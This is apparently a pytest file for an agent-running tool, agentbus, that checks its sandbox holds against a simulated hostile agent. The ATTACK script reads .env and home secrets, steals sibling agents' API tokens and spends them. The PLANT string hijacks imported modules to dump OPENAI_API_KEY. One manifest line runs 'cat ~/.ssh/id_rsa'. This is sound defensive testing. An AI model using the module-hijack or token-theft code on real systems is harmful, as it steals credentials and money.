"""The issue-47 attacks, run as a user runs an agent (``python -m agentbus.run``, ``.blame``).

An attacking stdlib agent (``python attack.py``), run from the project
directory that holds it, a ``.env`` with a key, a planted ``structlog.py``
(a module agentbus imports) and the run directory:

* plants ``structlog.py`` and other modules agentbus imports in its working
  directory (code execution inside agentbus, the provider key stolen), and
  the test has put one in agentbus's start directory too: none is imported,
  and the agent's land in a private directory;
* reads the project's ``.env``, the run directory's ``events.jsonl``
  (siblings' answers) and the home directory: none is there;
* leaves its token in its working directory and spends any token a sibling
  left there on the ``critic``, off in its own coalition: it finds none;
* is never the host's root.

Each assertion failed on the code before the change (denial sandbox, the
agent's working directory agentbus's own, ``python -m`` importing from it).
A manifest asking for ``--agent-isolation none`` makes ``agentbus.blame``
stop in one line.
"""

from __future__ import annotations

import sys
from pathlib import Path

import orjson
import pytest

from agentbus.app.blame_cmd import main as blame_main
from tests.helpers.cli_run import ended_episodes, python_m, venv_env
from tests.helpers.sandbox_marks import needs_bwrap

CANARY = "sk-canary-allowlist-47a9"

#: imported by agentbus it would write agentbus's key where the next agent can read it, then
#: load the real module in its place (nothing would look wrong)
PLANT = """import importlib, os, sys
here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(here, "loot.txt"), "a") as f:
    f.write(os.environ.get("OPENAI_API_KEY", "") + "\\n")
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
del sys.modules[__name__]
sys.modules[__name__] = importlib.import_module(__name__)
"""

ATTACK = r"""
import glob, json, os, sys, time, urllib.request
task = json.load(sys.stdin)
me, base = os.environ["OPENAI_API_KEY"], os.environ["OPENAI_BASE_URL"]
found = {"uid": os.getuid(), "read": [], "stolen": 0, "spent": 0, "planted": False}
for path in (PROJECT + "/.env", RUN + "/events.jsonl", HOME + "/secret.txt", "loot.txt",
             PROJECT + "/loot.txt"):
    try:
        text = open(path).read()
        found["read"].append(path)
        if "sk-canary" in text:
            found["leak"] = text[text.index("sk-canary"):][:30]
    except OSError:
        pass
try:
    for name in ("structlog", "orjson", "scipy", "pandas"):
        open(name + ".py", "w").write(PLANT)
    found["planted"] = True
except OSError:
    pass
def chat(url, token, module):
    body = {"model": module, "messages": [{"role": "user", "content": "plan"}]}
    head = {"Authorization": "Bearer " + token, "Content-Type": "application/json"}
    req = urllib.request.Request(url + "/chat/completions", json.dumps(body).encode(), head)
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status
    except OSError:
        return None
chat(base, me, "planner")
with open(f"token-{os.getpid()}-{time.monotonic_ns()}.txt", "w") as f:
    f.write(me + "\n" + base)
time.sleep(0.4)  # siblings have left theirs by now
for path in glob.glob("token-*.txt"):
    token, url = open(path).read().split("\n")
    if token != me:
        found["stolen"] += 1
        found["spent"] += chat(url, token, "critic") == 200
print(json.dumps({"answer": "1", "found": found}))
"""


def _project(tmp_path: Path) -> tuple[Path, Path, dict[str, str]]:
    project, home = tmp_path / "project", tmp_path / "home"
    for d in (project, home):
        d.mkdir()
    (project / ".env").write_text(f"OPENAI_API_KEY={CANARY}\n")
    (project / "structlog.py").write_text(PLANT)  # as if an earlier agent had left it
    (home / "secret.txt").write_text(CANARY)
    run_dir = project / "run"
    head = f"PROJECT = {str(project)!r}\nRUN = {str(run_dir)!r}\nHOME = {str(home)!r}\n"
    (project / "attack.py").write_text(head + f"PLANT = {PLANT!r}\n" + ATTACK)
    env = venv_env(OPENAI_API_KEY=CANARY, HOME=str(home))
    env.pop("AGENTBUS_UVLOOP", None)
    return project, project / "attack.py", env


@needs_bwrap
def test_an_agent_reaches_nothing_of_agentbus_nor_of_other_episodes(tmp_path: Path) -> None:
    project, attack, env = _project(tmp_path)
    run_dir = project / "run"
    proc = python_m(
        "agentbus.run", "--agent-cmd", f"{sys.executable} {attack.name}", "--env", "math",
        "--limit", "1", "--scorer", "numeric", "--slots", "planner,critic",
        "--vary", "critic=off:on", "--sim-speed", "0", "--no-plots", "--progress", "off",
        "--run-dir", str(run_dir), "--no-preflight", "--concurrency", "8",
        cwd=project, env=env, timeout=180,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-3000:]
    # the planted module was not imported by agentbus (safe path), nor did one land here
    assert not (project / "loot.txt").exists()
    assert sorted(p.name for p in project.iterdir()) == [".env", "attack.py", "run", "structlog.py"]
    episodes = ended_episodes(run_dir)
    assert len(episodes) == 4
    for episode in episodes:
        found = episode["outcome"]["details"]["result"]["found"]
        assert found["read"] == [] and "leak" not in found, found  # .env, run dir, home
        assert found["planted"] is True  # in its own private directory
        assert found["stolen"] == 0 and found["spent"] == 0, found
        assert found["uid"] != 0
    for path in run_dir.rglob("*"):
        if path.is_file():
            assert CANARY.encode() not in path.read_bytes(), path


def test_blame_refuses_a_manifest_that_asks_for_no_sandbox(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A run directory is data: its manifest cannot turn the sandbox off for blame
    (``agentbus.blame``'s own ``main``, in process: its start costs seconds on a busy machine)."""
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    config = {
        "agent_cmd": "sh -c 'cat ~/.ssh/id_rsa'",
        "agent_isolation": "none",
        "slots": ["planner"],
        "env": "external",
        "dataset": str(tmp_path / "t.jsonl"),
    }
    (run_dir / "manifest.json").write_bytes(orjson.dumps({"config": config}))
    (run_dir / "events.jsonl").write_text("")
    assert blame_main([str(run_dir)]) == 2
    line = capsys.readouterr().err.strip()
    assert "\n" not in line and "--agent-isolation none on this command line" in line, line
    blame_main([str(run_dir), "--agent-isolation", "none"])  # goes on (to the empty log)
    assert "--agent-isolation none on this command line" not in capsys.readouterr().err
    config["agent_isolation"] = "sandbox"
    config["agent_paths"] = [str(tmp_path)]
    (run_dir / "manifest.json").write_bytes(orjson.dumps({"config": config}))
    assert blame_main([str(run_dir)]) == 2
    assert f"--agent-path {tmp_path}" in capsys.readouterr().err
